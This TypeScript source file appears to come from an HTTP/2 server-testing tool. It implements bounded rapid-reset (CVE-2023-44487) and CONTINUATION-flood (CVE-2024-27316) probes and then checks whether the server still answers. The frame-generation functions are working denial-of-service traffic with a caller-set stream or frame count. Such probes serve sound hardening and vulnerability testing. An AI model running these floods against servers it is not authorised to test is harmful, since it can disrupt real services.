import type { Socket } from 'node:net';
import type { ReadEnd } from '../connect.ts';
import type { HttpRequest } from '../http/http-types.ts';
import { defaultHostHeader, type ProbeTarget } from '../target.ts';
import { withinLimit } from '../within-limit.ts';
import { connectHttp2, nothingSeen, readFrames, settingsAck } from './conversation.ts';
import { flag, formatFrame, frameType, preface } from './frames.ts';
import { formatField, formatHeaderBlock } from './header-block.ts';

/** `limitMs` is 10 s unless told; reaching it is a result. */
export interface FloodOptions extends ProbeTarget, HttpRequest {
  /** `rapid-reset` opens and resets that many streams; `continuation` sends one header block in that many frames. */
  readonly kind: 'rapid-reset' | 'continuation';
  readonly count: number;
}

/** What a bounded flood came to. A server with a bound ends it: with GOAWAY, a reset, or a close. */
export interface FloodProbe {
  /** The server’s own, by their names. */
  readonly settings: Readonly<Record<string, number>>;
  /** Streams or frames that were sent before the end. */
  readonly sent: number;
  /** How the connection was at the end: `open` when the server still answered a ping after it. */
  readonly ended: 'open' | 'closed' | 'reset' | 'time-limit';
  /** The error code of its GOAWAY, or null. */
  readonly goAway: number | null;
  /** Error code to number of streams that the server reset. */
  readonly resets: Readonly<Record<string, number>>;
  /** Streams that got HEADERS back. */
  readonly answered: number;
  /** Status to how often it was answered. */
  readonly statuses: Readonly<Record<string, number>>;
}

/** Sends a bounded rapid reset (CVE-2023-44487) or CONTINUATION flood (CVE-2024-27316), then asks whether the server is still there. */
export async function probeHttp2Flood(options: FloodOptions): Promise<FloodProbe> {
  return withinLimit(options, 10_000, async (run) => {
    const socket = await connectHttp2(options, run);
    const seen = nothingSeen();
    const stop = new AbortController();
    const sending = sendFlood(socket, options, stop.signal);
    try {
      const end = await readFrames(socket, run, { seen });
      options.signal?.throwIfAborted();
      stop.abort();
      const { pong: _, ...facts } = seen;
      return { ...facts, sent: await sending, ended: endOf(end) };
    } finally {
      stop.abort();
      socket.destroy();
    }
  });
}

async function sendFlood(socket: Socket, options: FloodOptions, stop: AbortSignal): Promise<number> {
  const frames = options.kind === 'rapid-reset' ? resets(options) : continuations(options);
  let sent = 0;
  await write(socket, Buffer.concat([preface, formatFrame({ type: frameType.settings })]), stop);
  for (const bytes of frames) {
    if (stop.aborted || !socket.writable) return sent;
    await write(socket, bytes, stop);
    sent += 1;
  }
  const ping = formatFrame({ type: frameType.ping, payload: Buffer.from('seatrial') });
  await write(socket, Buffer.concat([settingsAck, ping]), stop);
  return sent;
}

function* resets(options: FloodOptions): Generator<Buffer> {
  const payload = headerBlockOf(options);
  const cancel = Buffer.from([0, 0, 0, 8]);
  for (let at = 0; at < options.count; at += 1) {
    const stream = 2 * at + 1;
    yield Buffer.concat([
      formatFrame({ type: frameType.headers, flags: flag.endStream | flag.endHeaders, stream, payload }),
      formatFrame({ type: frameType.resetStream, stream, payload: cancel }),
    ]);
  }
}

function* continuations(options: FloodOptions): Generator<Buffer> {
  const stream = 1;
  const payload = headerBlockOf(options);
  yield formatFrame({ type: frameType.headers, flags: flag.endStream, stream, payload });
  for (let at = 1; at < options.count; at += 1) {
    const flags = at === options.count - 1 ? flag.endHeaders : 0;
    const field = formatField(`x-flood-${at}`, 'x'.repeat(1000));
    yield formatFrame({ type: frameType.continuation, flags, stream, payload: field });
  }
}

function headerBlockOf(options: FloodOptions): Buffer {
  const authority = options.hostHeader ?? defaultHostHeader(options);
  return formatHeaderBlock(options, authority, options.tls === undefined ? 'http' : 'https');
}

/** Resolves when the kernel has the bytes, or nothing more is wanted. */
async function write(socket: Socket, bytes: Buffer, stop: AbortSignal): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const done = () => resolve();
  stop.addEventListener('abort', done, { once: true });
  socket.write(bytes, done);
  await promise;
  stop.removeEventListener('abort', done);
}

function endOf(end: ReadEnd): FloodProbe['ended'] {
  if (end === 'enough') return 'open';
  return end === 'aborted' ? 'time-limit' : end;
}
